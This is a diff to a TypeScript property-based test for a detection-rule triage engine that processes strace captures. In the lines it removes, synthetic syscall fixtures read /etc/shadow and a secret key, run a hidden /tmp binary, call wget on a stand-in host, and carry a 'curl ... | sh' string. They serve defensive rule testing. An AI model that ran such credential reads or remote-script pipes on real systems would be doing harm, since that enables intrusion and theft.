@@ -6,7 +6,6 @@
 import fc from 'fast-check';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { importFile } from '../ingest/import-file.ts';
-import type { CanonicalEvent } from '../model/event.ts';
 import { CaseStore } from '../store/case-store.ts';
 import { sql } from '../store/sql.ts';
 import { fixture } from '../testing/corpus.ts';
@@ -14,7 +13,8 @@ import { tempDir } from '../testing/temp.ts';
 import { loadRules, SHIPPED_RULES_DIR } from './rules-load.ts';
 import { runTriage } from './run.ts';
 import { parseRuleFile } from './sigma/parse.ts';
-import { addCapture, call } from './testing/build-case.ts';
+import { addCapture } from './testing/build-case.ts';
+import { randomCalls, toEvents } from './testing/random-calls.ts';
 
 let dir: ReturnType<typeof tempDir>;
 beforeEach(() => {
@@ -86,32 +86,11 @@ it('finds the same pairs with and without the pre-filter on strace fixtures, ful
   expect(withIt).toEqual(without);
 });
 
-/** Calls that hit (or nearly hit) the rules above and a few shipped ones, NULLs included. */
-const CALLS: ((sec: number, pid: number) => CanonicalEvent)[] = [
-  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '-1', error: 'EACCES' }),
-  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '3' }),
-  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '-1', error: 'EACCES' }),
-  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '4', error: null }),
-  (sec, pid) => call(sec, pid, 'openat', null, undefined, { args: null, ret: null }),
-  (sec, pid) => call(sec, pid, 'read', '/srv/secret.key', '3, "secret"..., 4096', { ret: '0' }),
-  (sec, pid) => call(sec, pid, 'read', '/etc/passwd', '3, "curl http://x/a.sh | sh\\n", 4096', { ret: '27' }),
-  (sec, pid) => call(sec, pid, 'read', null, undefined, { args: null, ret: '0' }),
-  (sec, pid) => call(sec, pid, 'write', '/tmp/secret', '1, "secret", 6', { ret: '-1', error: 'EPIPE' }),
-  (sec, pid) => call(sec, pid, 'execve', '/tmp/.x/run', '"/tmp/.x/run", ["run"], 0x7ff /* 7 vars */'),
-  (sec, pid) => call(sec, pid, 'execve', '/bin/cat', '"/bin/cat", ["cat", "/etc/shadow"], 0x7ff /* 7 vars */'),
-  (sec, pid) => call(sec, pid, 'execve', '/usr/bin/wget', '"/usr/bin/wget", ["wget", "http://x/y"], 0x7ff'),
-  (sec, pid) => call(sec, pid, 'clone', null, 'flags=SIGCHLD', { ret: String(pid + 1) }),
-];
-
-const capture = fc.array(fc.record({ sec: fc.integer({ min: 0, max: 120 }), pid: fc.integer({ min: 10, max: 14 }), call: fc.integer({ min: 0, max: CALLS.length - 1 }) }), { minLength: 1, maxLength: 30 });
-const toEvents = (spec: { sec: number; pid: number; call: number }[]): CanonicalEvent[] =>
-  spec.map((c) => (CALLS[c.call] as (sec: number, pid: number) => CanonicalEvent)(c.sec, c.pid)).sort((a, b) => a.ts_us - b.ts_us);
-
-it('finds the same pairs with and without the pre-filter over random calls, full and incremental', { timeout: 300_000 }, async () => {
+it('finds the same pairs with and without the pre-filter over random calls, full and incremental', { timeout: 600_000 }, async () => {
   let n = 0;
   let withFindings = 0;
   await fc.assert(
-    fc.asyncProperty(capture, capture, async (a, b) => {
+    fc.asyncProperty(randomCalls, randomCalls, async (a, b) => {
       n++;
       const first = (s: CaseStore): Promise<number> => addCapture(s, toEvents(a), 'a.txt');
       const second = (s: CaseStore): Promise<number> => addCapture(s, toEvents(b), 'b.txt');
@@ -120,7 +99,7 @@ it('finds the same pairs with and without the pre-filter over random calls, full
       expect(withIt).toEqual(without);
       if (without.incremental.length > 0) withFindings++;
     }),
-    { numRuns: 10, seed: 12 },
+    { numRuns: 6, seed: 12 },
   );
-  expect(withFindings).toBeGreaterThan(5); // the random calls do fire rules
+  expect(withFindings).toBeGreaterThan(3); // the random calls do fire rules
 });
